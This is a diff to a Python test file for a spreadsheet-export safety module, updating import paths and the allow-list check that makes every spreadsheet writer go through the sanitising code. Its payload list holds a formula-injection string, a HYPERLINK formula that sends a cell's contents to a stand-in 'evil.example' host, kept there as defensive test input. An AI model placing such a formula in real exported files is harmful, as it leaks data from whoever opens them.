@@ -13,8 +13,8 @@ from hypothesis import given
 from hypothesis import strategies as st
 from openpyxl import load_workbook
 
-from piplkit.sheets import Sheet, clean_text, neutralise, safe_cell, write_csv, write_xlsx
-from piplkit.sheets.cells import FORMULA_TRIGGERS, UNSAFE_CHARACTERS
+from piplkit.assess.sheets import Sheet, clean_text, neutralise, safe_cell, write_csv, write_xlsx
+from piplkit.assess.sheets.cells import FORMULA_TRIGGERS, UNSAFE_CHARACTERS
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
@@ -107,7 +107,7 @@ def test_a_failed_write_keeps_the_old_file(tmp_path: Path) -> None:
 SPREADSHEET_WRITERS = re.compile(
     r"csv\.writer\(|csv\.DictWriter\(|from openpyxl import[^\n]*\bWorkbook\b|openpyxl\.Workbook\("
 )
-#: Modules that may write spreadsheets without piplkit.sheets: the user's own data rewritten
+#: Modules that may write spreadsheets without piplkit.assess.sheets: the user's own data rewritten
 #: unchanged (deid), generated sample and evaluation data (no user input).
 ALLOWED = {"sheets", "deid", "samples", "evaluation"}
 
@@ -117,7 +117,7 @@ def test_every_spreadsheet_writer_goes_through_piplkit_sheets() -> None:
     offenders = [
         str(path.relative_to(root))
         for path in root.rglob("*.py")
-        if path.relative_to(root).parts[0] not in ALLOWED
+        if not ALLOWED.intersection(path.relative_to(root).parts[:2])
         and SPREADSHEET_WRITERS.search(path.read_text(encoding="utf-8"))
     ]
     assert offenders == []
